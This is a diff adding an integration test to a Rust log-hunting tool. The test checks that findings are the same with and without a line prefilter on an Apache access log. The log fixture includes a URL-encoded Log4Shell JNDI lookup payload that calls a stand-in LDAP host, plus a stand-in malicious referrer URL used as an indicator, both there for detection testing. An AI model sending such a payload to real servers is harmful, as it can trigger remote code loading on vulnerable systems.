@@ -2,6 +2,8 @@
 //! web lines, the rules matched with the gate on (lines decided before parsing) are the rules
 //! matched with it off, line by line, for Apache combined and IIS W3C logs.
 
+mod common;
+
 use proptest::prelude::*;
 use spoor_event::{LogSource, SharedGates};
 use spoor_input::{read_reader, InputFormat, ReadOptions};
@@ -255,4 +257,56 @@ fn literal_only_in_the_decoded_request_is_seen() {
         vec![1, 2]
     );
     assert_eq!(gated, plain);
+}
+
+/// Through the binary: the pack and indicators with the gate on and off give the same findings;
+/// indicators on web fields (a domain, a URL) keep their lines; an address indicator, which no
+/// literal stands for, turns the gate off.
+#[test]
+fn hunt_finds_the_same_with_and_without_the_prefilter() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = dir.path().join("access.log");
+    let mut body = String::new();
+    for i in 0..200 {
+        body.push_str(&format!(
+            "10.0.0.{} - - [12/Jul/2024:10:00:{:02} +0000] \"GET /news/n{i}.htm HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n",
+            i % 250,
+            i % 60
+        ));
+    }
+    body.push_str("10.0.0.9 - - [12/Jul/2024:10:01:00 +0000] \"GET /?q=%24%7Bjndi:ldap://x.example/a%7D HTTP/1.1\" 200 5 \"-\" \"-\"\n");
+    body.push_str("10.0.0.9 - - [12/Jul/2024:10:01:01 +0000] \"GET /x HTTP/1.1\" 200 5 \"http://Evil-Stage.example/p\" \"-\"\n");
+    std::fs::write(&log, body).unwrap();
+    let iocs = dir.path().join("iocs.csv");
+    std::fs::write(&iocs, "type,value,description\nurl,http://evil-stage.example/p,stage\n").unwrap();
+    let ip_iocs = dir.path().join("ips.csv");
+    std::fs::write(&ip_iocs, "type,value,description\nipv4,10.0.0.77,actor\n").unwrap();
+
+    let run = |extra: &[&str]| {
+        let out = common::spoor()
+            .args(["hunt", "-f", "jsonl"])
+            .args(extra)
+            .arg(&log)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+        let rows = common::jsonl(&out.stdout);
+        let (summary, findings) = rows.split_last().expect("a summary line");
+        let keys: Vec<String> = findings
+            .iter()
+            .map(|f| format!("{} {}", f["rule"]["id"], f["source"]["line"]))
+            .collect();
+        let prefiltered = summary["summary"]["files"][0]["prefiltered"].as_u64().unwrap_or(0);
+        (keys, prefiltered)
+    };
+    let ioc = iocs.to_str().unwrap();
+    let (gated, skipped) = run(&["--iocs", ioc]);
+    let (plain, none) = run(&["--iocs", ioc, "--no-prefilter"]);
+    assert_eq!(gated, plain);
+    assert!(gated.iter().any(|k| k.ends_with(" 202")), "the URL indicator's line: {gated:?}");
+    assert!(gated.iter().any(|k| k.ends_with(" 201")), "the Log4Shell line: {gated:?}");
+    assert_eq!(none, 0);
+    assert!(skipped >= 190, "{skipped} lines prefiltered");
+    let (_, with_ip) = run(&["--iocs", ip_iocs.to_str().unwrap()]);
+    assert_eq!(with_ip, 0, "an address indicator needs every event");
 }
